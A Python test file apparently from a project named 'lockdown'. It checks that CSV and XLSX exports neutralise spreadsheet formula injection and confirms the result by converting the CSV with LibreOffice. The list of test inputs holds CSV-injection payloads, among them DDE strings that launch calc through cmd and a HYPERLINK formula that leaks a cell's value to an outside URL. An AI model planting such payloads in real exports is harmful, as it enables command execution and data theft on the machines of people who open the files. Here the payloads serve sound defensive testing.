"""Every export cell that an office suite could run as a formula is neutralised, in every format
(OWASP's advice on CSV injection): per leading character and shape of formula."""

import csv
import io
import shutil
import subprocess

import openpyxl
import pytest

from lockdown.core.spreadsheets import Column, SheetSpec, write_csv, write_table
from tests.conftest import require

# Each leading character, followed by a digit (what slipped through) and by a letter or a bracket.
FORMULAS = [
    "=1+1",
    '=0+HYPERLINK("http://example.org/?leak="&A1,"点我")',
    '=HYPERLINK("http://example.org","点我")',
    "+1+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1,1)",
]
# Numbers stay numbers; text that merely holds a sign inside is left as it is.
PLAIN = [-5, -2.5, 0, 13800000001, "1+1", "A=1+1", "张三", "3-501", ""]


def csv_cells(rows):
    file = io.StringIO()
    write_csv([Column("A")], rows, file)
    return [row[0] for row in csv.reader(io.StringIO(file.getvalue().removeprefix("\ufeff")))][1:]


def xlsx_cells(rows, **layout):
    target = io.BytesIO()
    write_table([SheetSpec("Sheet", [Column("A")], rows, **layout)], target)
    target.seek(0)
    sheet = openpyxl.load_workbook(target).active
    return [row[0] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_writes_text_that_starts_like_a_formula_after_an_apostrophe(formula):
    assert csv_cells([[formula]]) == ["'" + formula]


@pytest.mark.parametrize("value", PLAIN)
def test_csv_writes_numbers_and_plain_text_as_they_are(value):
    assert csv_cells([[value]]) == [str(value)]


def test_csv_quotes_every_field_so_that_a_semicolon_cannot_start_a_field():
    file = io.StringIO()
    write_csv([Column("A"), Column("B")], [["a;=1+1", 5]], file)

    assert file.getvalue().splitlines()[1] == '"a;=1+1","5"'


LAYOUTS = {"plain": {}, "as_text": {"as_text": True}, "for_print": {"for_print": True}}


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("formula", FORMULAS)
def test_xlsx_writes_text_that_starts_like_a_formula_as_text_marked_as_typed_after_an_apostrophe(formula, layout):
    """The cell is a string, and quotePrefix (how Excel keeps text typed after an apostrophe) keeps
    it text when someone edits it; the value itself is unchanged, so the workbook imports again."""
    [cell] = xlsx_cells([[formula]], **LAYOUTS[layout])

    assert cell.data_type == "s"
    assert cell.value == formula.replace("\x00", "")  # an .xlsx cannot hold a NUL
    assert cell.quotePrefix


@pytest.mark.parametrize("layout", LAYOUTS)
def test_xlsx_writes_numbers_as_numbers(layout):
    cells = xlsx_cells([[-5], [-2.5], [13800000001]], **LAYOUTS[layout])

    assert [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells] == [
        (-5, "n", False),
        (-2.5, "n", False),
        (13800000001, "n", False),
    ]


@pytest.mark.parametrize("layout", LAYOUTS)
def test_xlsx_writes_text_an_xlsx_cannot_hold_without_its_control_characters(layout):
    [cell] = xlsx_cells([["李\x01四\x1b"]], **LAYOUTS[layout])

    assert cell.value == "李四"


def test_libreoffice_opening_the_csv_computes_no_formula(tmp_path):
    """A real office suite reads the CSV: every cell is text, none a formula."""
    soffice = shutil.which("soffice")
    require(soffice is not None, "needs LibreOffice (Debian's libreoffice-calc-nogui)")
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        write_csv([Column("A")], [[formula] for formula in FORMULAS], file)
    # Comma-separated, quoted by ", UTF-8 (76), from line 1; LibreOffice evaluates formulas by default.
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"  # its own, beside any other running
    command = [
        soffice,
        profile,
        "--headless",
        "--infilter=CSV:44,34,76,1",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path),
    ]
    subprocess.run([*command, str(path)], check=True, capture_output=True, timeout=120)

    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx").active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULAS)
